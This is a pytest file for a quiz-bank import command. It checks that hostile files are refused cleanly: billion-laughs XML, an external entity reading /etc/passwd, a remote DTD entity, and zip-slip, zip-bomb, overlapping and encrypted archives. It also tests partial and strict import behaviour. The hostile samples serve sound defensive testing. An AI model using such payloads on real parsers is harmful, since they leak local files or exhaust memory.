"""Files from strangers through `qbank import`: hostile XML and zips, broken text, and the pipeline's
promises (one clear message naming the file, exit 1, no traceback, nothing written from a file that
cannot be read; what can be read is written unless --strict, which is all or nothing).

Every importer is driven through the CLI, with --from and with detection. An importer that is still
a placeholder (raises NotImplementedError) turns its cases into expected failures; the safety layer
itself (qbank/importers/safety.py) is also tested directly, so its protections are checked whatever
state the importers are in.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from qbank.cli import main
from qbank.importers import ImportedItem, ImportFailure, all_importers, safety
from qbank.importing import SourceResult, plan, write
from qbank.model import ITEM_ADAPTER

# --- helpers ------------------------------------------------------------------------------------------


def _ready(name: str) -> bool:
    try:
        all_importers()[name].read(b"", "probe")
    except NotImplementedError:
        return False
    except Exception:  # an ImportFailure (or anything else) means the reader exists
        return True
    return True


def with_format(*names: str | None) -> list[Any]:
    """Parameters for --from NAME (None: detection), as expected failures while an importer is a placeholder."""
    params = []
    for name in names:
        pending = name is not None and name in all_importers() and not _ready(name)
        marks = [pytest.mark.xfail(reason=f"the {name} importer is not written yet", strict=False)] if pending else []
        params.append(pytest.param(name, marks=marks, id=name or "detected"))
    return params


XML_FORMATS = with_format(None, "moodle-xml", "qti21", "qti30", "canvas")
ZIP_FORMATS = with_format(None, "canvas", "qti21", "qti30")
TEXT_FORMATS = with_format(None, "csv", "aiken", "gift")


def run(*args: str) -> Any:
    return CliRunner().invoke(main, list(args))


def files_in(folder: Path) -> dict[str, bytes]:
    if not folder.exists():
        return {}
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def refused(source: Path, fmt: str | None, out: Path, *contains: str, code: int = 1) -> str:
    """Import ``source``; check one clear message naming the file, the exit code, no crash, nothing written."""
    before = files_in(out)
    args = ["import", str(source), "-o", str(out)] + (["--from", fmt] if fmt else [])
    result = run(*args)
    assert result.exit_code == code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)  # no crash
    assert "Traceback" not in result.output
    assert str(source) in result.output, result.output
    message = [line for line in result.output.splitlines() if line.strip()]
    assert len(message) == 1, result.output  # one message, not a cascade
    for part in contains:
        assert part in result.output, result.output
    assert files_in(out) == before
    return result.output


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buffer.getvalue()


MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m"><organizations/><resources/></manifest>\n'
)


def bomb_zip(megabytes: int = 4) -> bytes:
    """A member of zeros that deflates about 1000 to 1, written in chunks (fast, little memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("imsmanifest.xml", MANIFEST)
        info = zipfile.ZipInfo("questions/zeros.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as fh:
            chunk = b"\0" * 2**20
            for _ in range(megabytes):
                fh.write(chunk)
    return buffer.getvalue()


def _central_entries(data: bytes) -> list[int]:
    positions, at = [], data.find(b"PK\x01\x02")
    while at >= 0:
        positions.append(at)
        at = data.find(b"PK\x01\x02", at + 4)
    return positions


def overlapping_zip() -> bytes:
    """Two central-directory entries whose data start at the same local header (the overlap trick)."""
    data = bytearray(zip_bytes({"imsmanifest.xml": MANIFEST, "b.xml": b"<b/>" * 50}))
    second = _central_entries(bytes(data))[1]
    data[second + 42:second + 46] = struct.pack("<I", 0)  # relative offset of b.xml's local header
    return bytes(data)


def encrypted_zip() -> bytes:
    data = bytearray(zip_bytes({"imsmanifest.xml": MANIFEST}))
    data[6] |= 0x1  # general-purpose flag bit 0 (encrypted), local header
    data[_central_entries(bytes(data))[0] + 8] |= 0x1  # and central directory
    return bytes(data)


HOSTILE_ZIPS = {
    "zip-slip": (lambda: zip_bytes({"imsmanifest.xml": MANIFEST, "../evil.txt": b"owned"}), "outside the package"),
    "absolute": (lambda: zip_bytes({"imsmanifest.xml": MANIFEST, "/etc/passwd": b"root:x:0:0"}), "outside the package"),
    "drive": (lambda: zip_bytes({"imsmanifest.xml": MANIFEST, "C:/evil.txt": b"x"}), "outside the package"),
    "bomb": (bomb_zip, "zip bomb"),
    "truncated": (lambda: zip_bytes({"imsmanifest.xml": MANIFEST * 20})[:150], "zip"),
    "overlap": (overlapping_zip, "overlap"),
    "encrypted": (encrypted_zip, "encrypted"),
}

BILLION_LAUGHS = """<?xml version="1.0" encoding="{enc}"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<quiz><question type="essay"><name><text>&lol3;</text></name>
<questiontext format="html"><text>&lol3;</text></questiontext></question></quiz>
"""

EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><name><text>x</text></name>
<questiontext format="html"><text>&xxe;</text></questiontext></question></quiz>
"""

PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<quiz/>
"""

HOSTILE_XML = {
    "billion-laughs": BILLION_LAUGHS.format(enc="UTF-8").encode("utf-8"),
    "billion-laughs-utf16": BILLION_LAUGHS.format(enc="UTF-16").encode("utf-16"),
    "external-entity": EXTERNAL.encode("utf-8"),
    "parameter-entity": PARAMETER.encode("utf-8"),
}


# --- XML ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(HOSTILE_XML))
@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_xml_entity_declarations_are_refused(tmp_path: Path, fmt: str | None, case: str) -> None:
    source = tmp_path / f"{case}.xml"
    source.write_bytes(HOSTILE_XML[case])
    refused(source, fmt, tmp_path / "out", "<!ENTITY", "nothing was written")


@pytest.mark.parametrize("fmt", with_format("canvas", "qti21", "qti30"))
def test_entity_declaration_inside_a_package_is_refused(tmp_path: Path, fmt: str) -> None:
    source = tmp_path / "package.zip"
    source.write_bytes(zip_bytes({"imsmanifest.xml": BILLION_LAUGHS.format(enc="UTF-8").encode("utf-8")}))
    refused(source, fmt, tmp_path / "out", "<!ENTITY")


@pytest.mark.parametrize("case", sorted(HOSTILE_XML))
def test_safety_parse_xml_refuses_entities(case: str) -> None:
    with pytest.raises(ImportFailure, match="<!ENTITY"):
        safety.parse_xml(HOSTILE_XML[case], "x.xml")


def test_safety_parse_xml_keeps_the_qti_doctype_and_refuses_malformed_xml() -> None:
    root = safety.parse_xml(b'<?xml version="1.0"?>\n<!DOCTYPE questestinterop SYSTEM "ims_qtiasiv1p2p1.dtd">\n<questestinterop/>', "q.xml")
    assert root.tag == "questestinterop"
    for bad in (b"", b"<a>", b"<a></b>", b"\xff\xfe\x00", b"<a>" * 300 + b"</a>" * 300):
        with pytest.raises(ImportFailure, match=r"x\.xml"):
            safety.parse_xml(bad, "x.xml")


# --- zips ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(HOSTILE_ZIPS))
@pytest.mark.parametrize("fmt", ZIP_FORMATS)
def test_hostile_zips_are_refused(tmp_path: Path, fmt: str | None, case: str) -> None:
    build, expected = HOSTILE_ZIPS[case]
    source = tmp_path / f"{case}.zip"
    source.write_bytes(build())
    refused(source, fmt, tmp_path / "out", expected, "nothing was written")
    assert not (tmp_path / "evil.txt").exists()


@pytest.mark.parametrize("case", sorted(HOSTILE_ZIPS))
def test_safety_read_zip_refuses(case: str) -> None:
    build, expected = HOSTILE_ZIPS[case]
    with pytest.raises(ImportFailure, match=expected) as failure:
        safety.read_zip(build(), "x.zip")
    assert failure.value.message.startswith("x.zip: ")


def test_safety_read_zip_caps(monkeypatch: pytest.MonkeyPatch) -> None:
    fine = zip_bytes({f"m{i}.txt": b"hello" for i in range(5)})
    assert safety.read_zip(fine, "x.zip") == {f"m{i}.txt": b"hello" for i in range(5)}
    monkeypatch.setattr(safety, "MAX_ZIP_MEMBERS", 4)
    with pytest.raises(ImportFailure, match="5 members"):
        safety.read_zip(fine, "x.zip")
    monkeypatch.setattr(safety, "MAX_ZIP_MEMBERS", 100)
    monkeypatch.setattr(safety, "MAX_ZIP_TOTAL", 20)
    with pytest.raises(ImportFailure, match="unpack to"):
        safety.read_zip(fine, "x.zip")


def test_safety_read_zip_refuses_duplicate_names_and_normalises_paths() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):  # zipfile itself warns when writing one
        data = _duplicate_zip()
    with pytest.raises(ImportFailure, match="two members named 'a.xml'"):
        safety.read_zip(data, "x.zip")
    assert safety.read_zip(zip_bytes({"dir/./b.xml": b"<b/>", "dir\\c.xml": b"<c/>"}, zipfile.ZIP_STORED), "x.zip") == {
        "dir/b.xml": b"<b/>",
        "dir/c.xml": b"<c/>",
    }


def _duplicate_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.xml", b"<a/>")
        archive.writestr("a.xml", b"<evil/>")
    return buffer.getvalue()


def test_safety_read_zip_damaged_bytes_never_crash() -> None:
    """Truncated at every length and with random bytes changed: a result or ImportFailure, nothing else."""
    good = zip_bytes({"imsmanifest.xml": MANIFEST, "a/b.xml": b"<b>text</b>" * 30, "c.bin": b"stored"})
    cases = [good[:n] for n in range(len(good))]
    rng = random.Random(20240611)
    for _ in range(1500):
        damaged = bytearray(good)
        for _ in range(rng.randint(1, 4)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        cases.append(bytes(damaged))
    for data in cases:
        try:
            safety.read_zip(data, "x.zip")
        except ImportFailure as exc:
            assert exc.message.startswith("x.zip: ")


# --- text files ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_non_utf8_text(tmp_path: Path, fmt: str | None) -> None:
    source = tmp_path / "latin1.txt"
    source.write_bytes("Quelle est la capitale ?\nA. Paris\nB. Lyon\nANSWER: A\nid,type,stem\n".encode("utf-8") + "café, crème\n".encode("latin-1"))
    output = refused(source, fmt, tmp_path / "out")
    assert "UTF-8" in output or "cannot tell the format" in output


@pytest.mark.parametrize("fmt", TEXT_FORMATS)
def test_empty_file(tmp_path: Path, fmt: str | None) -> None:
    source = tmp_path / "empty.txt"
    source.write_bytes(b"")
    output = refused(source, fmt, tmp_path / "out")
    if fmt is None:
        assert "cannot tell the format" in output


def test_unknown_format_without_from(tmp_path: Path) -> None:
    source = tmp_path / "notes.txt"
    source.write_text("Shopping list\n- milk\n- bread\n", encoding="utf-8")
    output = refused(source, None, tmp_path / "out", "cannot tell the format", "--from")
    for name in ("csv", "aiken", "gift", "moodle-xml"):
        assert name in output


def test_binary_junk_without_from(tmp_path: Path) -> None:
    source = tmp_path / "junk.bin"
    source.write_bytes(bytes(range(256)) * 8)
    refused(source, None, tmp_path / "out", "cannot tell the format")


def test_usage_errors_exit_2(tmp_path: Path) -> None:
    quiz = tmp_path / "quiz.txt"
    quiz.write_text("Q?\nA. yes\nB. no\nANSWER: A\n", encoding="utf-8")
    out = tmp_path / "out"
    unknown = run("import", str(quiz), "--from", "word", "-o", str(out))
    assert unknown.exit_code == 2 and "unknown import format 'word'" in unknown.output and "aiken" in unknown.output
    missing = run("import", str(tmp_path / "nope.csv"), "-o", str(out))
    assert missing.exit_code == 2 and "nope.csv" in missing.output
    no_output = run("import", str(quiz))
    assert no_output.exit_code == 2
    assert not out.exists()


# --- partial import, and --strict: all or nothing ----------------------------------------------------------


GOOD_CSV = b"id,type,stem\r\ngood-1,essay,Describe the peer role.\r\ngood-2,essay,Describe mutuality.\r\n"
AIKEN = b"Which stage comes first?\nA. Contemplation\nB. Precontemplation\nANSWER: B\n"
GIFT_ONE_BAD = b"::g-1::Peers share lived experience.{T}\n\n::g-bad::Which year?{#soon}\n\n::g-2::Describe hope.{}\n"


def test_strict_writes_nothing_when_one_of_several_files_fails(tmp_path: Path) -> None:
    good = tmp_path / "good.csv"
    good.write_bytes(GOOD_CSV)
    quiz = tmp_path / "quiz.txt"
    quiz.write_bytes(AIKEN)
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"id,type,stem\r\nb,essay,caf\xe9\r\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "keep.yaml").write_text("id: keep\ntype: essay\nstem: Existing.\n", encoding="utf-8")
    (out / "good-1.yaml").write_text("id: good-1\ntype: essay\nstem: Old text.\n", encoding="utf-8")
    before = files_in(out)
    result = run("import", str(good), str(quiz), str(bad), "-o", str(out), "--overwrite", "--strict")
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert str(bad) in result.output and "not UTF-8" in result.output and "nothing was written" in result.output
    assert files_in(out) == before


def test_the_other_files_are_written_when_one_file_cannot_be_read(tmp_path: Path) -> None:
    good = tmp_path / "good.csv"
    good.write_bytes(GOOD_CSV)
    quiz = tmp_path / "quiz.txt"
    quiz.write_bytes(AIKEN)
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"id,type,stem\r\nb,essay,caf\xe9\r\n")
    out = tmp_path / "out"
    result = run("import", str(good), str(bad), str(quiz), "-o", str(out))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    lines = result.output.splitlines()
    assert lines[0].startswith(f"qbank: error: {bad.as_posix()}: ") and "not UTF-8" in lines[0]
    assert lines[0].endswith("; the file was left out")
    assert lines[-1] == (
        f"Imported 3 item(s) from 2 of 3 file(s) (aiken, csv) into {out}; left out 1 file(s) that could not be read "
        f"(above). Next: qbank lint {out}"
    )
    assert len(files_in(out)) == 3 and {"good-1.yaml", "good-2.yaml"} <= set(files_in(out))


def test_good_items_of_every_file_are_written_when_one_has_a_bad_question(tmp_path: Path) -> None:
    gift = tmp_path / "quiz.gift"
    gift.write_bytes(GIFT_ONE_BAD)
    good = tmp_path / "good.csv"
    good.write_bytes(GOOD_CSV)
    out = tmp_path / "out"
    result = run("import", str(gift), str(good), "-o", str(out))
    assert result.exit_code == 1, result.output
    lines = result.output.splitlines()
    assert [line for line in lines if ": error: " in line] == [
        f"{gift.as_posix()}:3: error: numerical answer 'soon' is not a number; write a number (42, 3.14, -1e3; "
        "'.' for decimals), or make it a short answer {=...}"
    ]
    assert lines[-1] == (
        f"Imported 4 item(s) from 2 file(s) (csv, gift) into {out}; left out 1 question(s) with errors (above). "
        f"Next: qbank lint {out}"
    )
    assert sorted(files_in(out)) == ["g-1.yaml", "g-2.yaml", "good-1.yaml", "good-2.yaml"]
    # --strict: the same files, nothing written, every problem still listed.
    strict_out = tmp_path / "strict"
    strict = run("import", str(gift), str(good), "-o", str(strict_out), "--strict")
    assert strict.exit_code == 1
    assert f"{gift.as_posix()}:3: error: numerical answer 'soon'" in strict.output
    assert strict.output.splitlines()[-1].startswith("qbank: error: --strict: left out 1 question(s) with errors")
    assert "none of the 4 readable item(s) was imported; nothing was written" in strict.output
    assert not strict_out.exists()


def test_a_bad_question_does_not_lift_the_overwrite_guard(tmp_path: Path) -> None:
    gift = tmp_path / "quiz.gift"
    gift.write_bytes(GIFT_ONE_BAD)
    out = tmp_path / "out"
    out.mkdir()
    (out / "g-2.yaml").write_text("id: g-2\ntype: essay\nstem: Hand-edited.\n", encoding="utf-8")
    before = files_in(out)
    result = run("import", str(gift), "-o", str(out))
    assert result.exit_code == 1
    assert f"{gift.as_posix()}:3: error: " in result.output
    assert result.output.splitlines()[-1].startswith("qbank: error: 1 file(s) already exist")
    assert result.output.splitlines()[-1].endswith("use --overwrite to replace them; nothing was written")
    assert files_in(out) == before


def test_existing_files_are_listed_and_untouched_without_overwrite(tmp_path: Path) -> None:
    good = tmp_path / "good.csv"
    good.write_bytes(GOOD_CSV)
    out = tmp_path / "out"
    out.mkdir()
    (out / "good-2.yaml").write_text("id: good-2\ntype: essay\nstem: Hand-edited.\n", encoding="utf-8")
    before = files_in(out)
    result = run("import", str(good), "-o", str(out))
    assert result.exit_code == 1
    assert (out / "good-2.yaml").as_posix() in result.output and "--overwrite" in result.output
    assert files_in(out) == before  # good-1.yaml, which did not exist, was not written either
    assert run("import", str(good), "-o", str(out), "--overwrite").exit_code == 0
    assert set(files_in(out)) == {"good-1.yaml", "good-2.yaml"}
    assert b"Hand-edited" not in (out / "good-2.yaml").read_bytes()


def test_ids_differing_only_in_case_get_separate_files(tmp_path: Path) -> None:
    """On macOS and Windows Q1.yaml and q1.yaml are one file: the second would replace the first."""
    first = tmp_path / "a.csv"
    first.write_bytes(b"id,type,stem\r\nQ1,essay,First.\r\n")
    second = tmp_path / "b.csv"
    second.write_bytes(b"id,type,stem\r\nq1,essay,Second.\r\n")
    out = tmp_path / "out"
    result = run("import", str(first), str(second), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert sorted(files_in(out)) == ["Q1.yaml", "q1-2.yaml"]


# --- the planner's own guards (media come from the package importers) ----------------------------------


def _source(tmp_path: Path, media: dict[str, bytes]) -> SourceResult:
    item = ITEM_ADAPTER.validate_python({"id": "img", "type": "essay", "stem": "![a ruler](media/ruler.png)"})
    return SourceResult(tmp_path / "pkg.zip", "canvas", [ImportedItem(item, media=media)], [])


@pytest.mark.parametrize("name", ["../ruler.png", "media/../../ruler.png", "/tmp/ruler.png", "C:/ruler.png", "..\\ruler.png"])
def test_plan_refuses_media_paths_outside_the_output(tmp_path: Path, name: str) -> None:
    with pytest.raises(ImportFailure, match="outside the output folder"):
        plan([_source(tmp_path, {name: b"png"})], tmp_path / "out", "item")


def test_existing_media_with_other_content_is_not_replaced_without_overwrite(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "media").mkdir(parents=True)
    (out / "media" / "ruler.png").write_bytes(b"the author's own image")
    planned = plan([_source(tmp_path, {"media/ruler.png": b"imported image"})], out, "item")
    with pytest.raises(ImportFailure, match=r"already exist.*media/ruler\.png"):
        write(planned, overwrite=False)
    assert (out / "media" / "ruler.png").read_bytes() == b"the author's own image"
    assert not (out / "img.yaml").exists()
    # The same bytes are no conflict (a re-import of the same package), and --overwrite replaces.
    (out / "media" / "ruler.png").write_bytes(b"imported image")
    write(planned, overwrite=False)
    assert (out / "img.yaml").exists()
    (out / "media" / "ruler.png").write_bytes(b"changed again")
    write(planned, overwrite=True)
    assert (out / "media" / "ruler.png").read_bytes() == b"imported image"
